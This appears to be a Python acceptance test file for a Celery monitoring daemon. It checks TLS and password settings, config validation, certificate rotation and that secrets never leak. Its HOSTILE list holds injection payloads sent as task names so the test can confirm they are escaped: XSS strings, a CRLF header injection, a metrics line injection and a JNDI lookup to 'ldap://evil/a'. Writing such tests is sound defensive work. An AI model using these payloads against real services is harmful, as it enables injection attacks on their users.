"""``--web.config.file`` as an operator meets it: start, check, rotation, a real Prometheus."""

from __future__ import annotations

import json
import pathlib
import re
import shutil
from typing import TYPE_CHECKING
from urllib import parse

import httpx
import pytest
from prometheus_client.openmetrics import parser

from tests.acceptance import console, scraper
from tests.servers import certificates, daemon, deadline

if TYPE_CHECKING:
    import contextlib

    from tests import conftest
    from tests.servers import redis

EXAMPLE = pathlib.Path(__file__).parents[2] / "docs" / "web-example.yml"
USER = ("prometheus", "change-me")
NOBODY = "redis://127.0.0.1:1/0"
SECRET = "s3cr3t-Passw0rd"  # noqa: S105 - of this test


@pytest.fixture
def example(tmp_path: pathlib.Path) -> certificates.Certificates:
    """Lay out the example of the documentation with the files that it names."""
    shutil.copy(EXAMPLE, tmp_path / "web.yml")
    return certificates.Certificates(tmp_path)


def test_the_example_with_its_comments_taken_off(
    example: certificates.Certificates, tmp_path: pathlib.Path
) -> None:
    """Every line of the example is accepted, without a doubt."""
    text = re.sub(r"^(\s*)# (?=[A-Za-z_-]+: \S)", r"\1", EXAMPLE.read_text(), flags=re.MULTILINE)
    (tmp_path / "web.yml").write_text(text)
    assert "\n  client_ca_file:" in text
    assert "\nrate_limit:" in text

    done = console.call("check-config", "--web.config.file", str(tmp_path / "web.yml"))

    assert (done.returncode, done.stderr) == (0, "")
    assert "$2b$" not in done.stdout
    assert example.key_file.exists()


@pytest.mark.parametrize("command", ["run", "check-config"])
def test_a_wrong_file_ends_with_2(tmp_path: pathlib.Path, command: str) -> None:
    """The text names file, line and key, and shows nothing of what stands there."""
    file = tmp_path / "web.yml"
    file.write_text(f"basic_auth_users:\n  alice: {SECRET}\n")

    done = console.call(command, "--web.config.file", str(file))

    assert done.returncode == 2
    assert f"{file}:2: basic_auth_users.alice: found text that is no bcrypt hash" in done.stderr
    assert SECRET not in done.stdout + done.stderr


def test_a_doubt_is_told_by_both(
    example: certificates.Certificates, tmp_path: pathlib.Path, start_daemon: conftest.StartDaemon
) -> None:
    """A key that all may read is a warning of check-config and in the log of run."""
    example.key_file.chmod(0o644)
    flag = ["--web.config.file", str(tmp_path / "web.yml")]

    checked = console.call("check-config", *flag)
    sentinel = start_daemon(NOBODY, args=flag)

    assert checked.returncode == 0
    assert "warning: " in checked.stderr
    assert "every user may read it" in checked.stderr
    assert "config_doubtful" in sentinel.stderr_text
    assert "every user may read it" in sentinel.stderr_text


def test_prometheus_scrapes_over_tls_with_a_password(
    example: certificates.Certificates,
    tmp_path: pathlib.Path,
    start_daemon: conftest.StartDaemon,
    new_directory: conftest.Directories,
    closing: contextlib.ExitStack,
) -> None:
    """A real Prometheus comes in with both, without its password it does not."""
    sentinel = start_daemon(NOBODY, args=["--web.config.file", str(tmp_path / "web.yml")])
    scrape = {
        "scheme": "https",
        "tls_config": {"ca_file": str(example.ca_file)},
        "static_configs": [{"targets": [parse.urlsplit(sentinel.url).netloc]}],
    }
    password = {"basic_auth": {"username": USER[0], "password": USER[1]}}
    known = closing.enter_context(
        scraper.Scraper(new_directory("prometheus"), {**scrape, **password})
    )
    stranger = closing.enter_context(scraper.Scraper(new_directory("prometheus"), scrape))

    deadline.wait_until(lambda: known.target().get("health") == "up", 60, "a scrape")
    deadline.wait_until(lambda: "401" in stranger.target().get("lastError", ""), 60, "a refusal")
    assert stranger.target()["health"] == "down"


def test_the_daemon_takes_over_a_new_certificate(
    example: certificates.Certificates, tmp_path: pathlib.Path, start_daemon: conftest.StartDaemon
) -> None:
    """Without a signal: the log says so, and nothing but new connections notices."""
    sentinel = start_daemon(NOBODY, args=["--web.config.file", str(tmp_path / "web.yml")])
    example.issue("")

    deadline.wait_until(lambda: "web_config_loaded" in sentinel.stderr_text, 60, "a rotation")
    with httpx.Client(verify=str(example.ca_file), auth=USER, timeout=30) as client:
        text = client.get(f"{sentinel.url}/metrics").text

    samples = daemon.parse(text)
    assert daemon.total(samples, "celery_sentinel_web_config_last_reload_successful") == 1
    assert daemon.total(samples, "celery_sentinel_web_certificate_expiry_timestamp_seconds")


def test_a_reload_refuses_a_broken_web_config(
    example: certificates.Certificates, tmp_path: pathlib.Path, start_daemon: conftest.StartDaemon
) -> None:
    """POST /-/reload says what is wrong with it; what was in force stays."""
    flags = ["--web.config.file", str(tmp_path / "web.yml"), "--web.enable-lifecycle"]
    sentinel = start_daemon(NOBODY, args=flags)
    example.cert_file.write_text("no certificate")

    with httpx.Client(
        base_url=sentinel.url, verify=str(example.ca_file), auth=USER, timeout=30
    ) as client:
        refused = client.post("/-/reload")
        scraped = client.get("/metrics")

    assert refused.status_code == 500
    assert "tls_server_config.cert_file" in refused.text
    assert "holds no certificate in PEM" in refused.text
    assert scraped.status_code == 200


HOSTILE = [
    '<img src=x onerror="alert(1)">',
    '"} 1\ncelery_broker_up 0\n# ',
    "a\r\nSet-Cookie: b=c",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    "\u202egnp.exe\x1b[2J",
    "${jndi:ldap://evil/a}{{7*7}}",
]


def test_hostile_names_stay_names_in_every_format(
    redis_server: redis.RedisServer,
    start_daemon: conftest.StartDaemon,
    make_producer: conftest.MakeProducer,
) -> None:
    """Names of tasks and queues that are markup, header lines or samples are shown as text."""
    sentinel = start_daemon(redis_server.url)
    deadline.wait_until(lambda: sentinel.get("/-/ready").status_code == 200, 60, "subscribed")
    sending = make_producer(redis_server.url)
    for name in HOSTILE:
        sending.app.send_task(name, queue=name, kwargs={"password": SECRET})
    wanted = len(HOSTILE)
    sent = "celery_task_sent_total"

    def known() -> bool:
        names = {dict(labels).get("name") for key, labels in sentinel.scrape() if key == sent}
        return len(names & set(HOSTILE)) == wanted

    deadline.wait_until(known, 60, "all names in the text format")
    openmetrics = sentinel.get("/metrics", headers={"Accept": "application/openmetrics-text"})
    families = list(parser.text_string_to_metric_families(openmetrics.text))
    told = json.loads(sentinel.get("/api/v1/status").text)
    page = sentinel.get("/")

    names = {one.labels.get("name") for family in families for one in family.samples}
    assert set(HOSTILE) <= names
    assert set(HOSTILE) <= {task["name"] for task in told["busiest"]}
    assert "<script" not in page.text
    assert "<img" not in page.text
    assert "\x1b" not in page.text
    assert 'href="javascript:' not in page.text
    assert page.headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert "script-src" not in page.headers["Content-Security-Policy"]
    for answer in (openmetrics, page, sentinel.get("/-/ready")):
        assert "set-cookie" not in answer.headers
        assert SECRET not in answer.text
    assert SECRET not in sentinel.stderr_text
